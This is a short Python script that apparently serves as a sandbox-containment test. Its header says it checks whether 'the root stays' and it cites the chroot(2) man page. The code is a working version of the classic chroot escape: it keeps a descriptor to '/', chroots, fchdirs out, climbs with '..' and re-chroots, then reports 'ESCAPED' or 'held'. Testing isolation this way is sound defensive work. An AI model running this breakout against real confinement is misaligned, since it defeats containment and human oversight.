# technique: chroot into a directory of its own and out again by a descriptor: the classic way out
# source: chroot(2), "How to break out of a chroot"
# verdict: SV
# invariant: the root stays
# without: seccomp capabilities
import os

outside = os.open("/", os.O_RDONLY)
os.makedirs("/tmp/jail", exist_ok=True)
try:
    os.chroot("/tmp/jail")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print("ESCAPED", os.listdir("/"))
except OSError as refused:
    print("held", refused)
